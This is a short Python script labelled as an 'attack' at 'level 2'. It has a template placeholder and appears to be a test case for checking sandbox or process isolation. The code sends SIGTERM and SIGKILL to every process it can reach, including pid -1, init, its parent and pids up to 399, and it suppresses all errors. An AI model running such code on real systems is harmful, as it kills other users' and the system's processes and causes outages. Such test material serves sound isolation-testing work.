# attack: signals everything that it can
# level: 2
# limit: maybe
import os, signal
for pid in [-1, 0, 1, os.getppid(), @PID@, *range(2, 400)]:
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if pid not in (0, os.getpid()):
                os.kill(pid, number)
        except (OSError, OverflowError):
            pass
